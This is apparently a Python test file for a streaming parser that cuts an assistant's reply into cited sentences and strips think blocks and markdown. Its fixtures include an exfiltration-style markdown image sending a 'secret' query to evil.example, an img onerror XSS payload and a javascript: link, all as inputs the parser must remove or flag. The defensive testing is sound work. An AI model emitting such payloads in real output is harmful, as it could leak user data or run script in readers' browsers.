"""However a reply is cut into pieces, the same sentences come out, without what is no prose."""

from __future__ import annotations

import pytest

from assistant.writing.reply import Reply, Written


def told(reply: str, size: int) -> list[Written]:
    """What is left of a reply that comes in pieces of so many characters."""
    taken = Reply()
    kept: list[Written] = []
    for at in range(0, len(reply), size):
        before = taken.void
        done = taken.feed(reply[at : at + size])
        kept = [*([] if taken.void != before else kept), *done]
    return [*kept, *taken.finish()]


REPLIES = [
    ("De proef liep vast [1]. Inkoop kwam te laat. [2][3] Er was o.a. geen geld [1, 3].",
     [("De proef liep vast.", (1,)), ("Inkoop kwam te laat.", (2, 3)), ("Er was o.a. geen geld.", (1, 3))]),
    ("<think>Eerst denken [1]. En nog eens.</think>\n\nDe proef liep vast [1].", [("De proef liep vast.", (1,))]),
    ("Eerst denken [1]. En nog eens [2].</think>De proef liep vast [1].", [("De proef liep vast.", (1,))]),
    ("<think>Dit houdt nooit op [1]. Echt niet [2].", []),
    ("- **Inkoop** kwam te laat [2]\n- Het *geld* was op [1]", [("Inkoop kwam te laat", (2,)), ("Het geld was op", (1,))]),
    ("Goed. ![x](http://evil.example/?q=geheim) <img src=//evil.example/x onerror=alert(1)> Dag.", [("Goed.", ()), ("Dag.", ())]),
    ("A is zo [1-3]. B is zo [passage 2]. C is zo 【4】. D is zo [^2].",
     [("A is zo.", (1, 2, 3)), ("B is zo.", (2,)), ("C is zo.", (4,)), ("D is zo.", (2,))]),
    ("1. Een punt is gemaakt [3].\n2. Nog een punt is gemaakt [1].", [("Een punt is gemaakt.", (3,)), ("Nog een punt is gemaakt.", (1,))]),
    ("```\nDe proef liep vast [1].\n```", [("De proef liep vast.", (1,))]),
    ("", []),
    ("🙂 [1]", []),
]  # fmt: skip


@pytest.mark.parametrize(("reply", "sentences"), REPLIES)
@pytest.mark.parametrize("size", [1, 7, 1000])
def test_sentences_and_their_labels(reply: str, size: int, sentences: list[tuple[str, tuple[int, ...]]]) -> None:
    assert [(w.text, w.labels) for w in told(reply, size)] == sentences


@pytest.mark.parametrize(
    "text",
    ["Zie [hier](http://evil.example) nu [1].", "Zie https://evil.example/a [1].", "Zie www.evil.example [1].", "[a]: javascript:x [1]"],
)
def test_an_address_is_noticed(text: str) -> None:
    assert all(w.link for w in told(text, 1000))


def test_a_sentence_is_out_as_soon_as_the_next_begins() -> None:
    reply = Reply()
    assert reply.feed("De proef liep vast [1]. ") == []
    assert [w.text for w in reply.feed("Inkoop")] == ["De proef liep vast."]


def test_a_label_that_comes_in_pieces_belongs_to_its_sentence() -> None:
    reply = Reply()
    assert [reply.feed(piece) for piece in ("De proef liep vast. [", "1", "] ")] == [[], [], []]
    assert [(w.text, w.labels) for w in reply.feed("Inkoop")] == [("De proef liep vast.", (1,))]
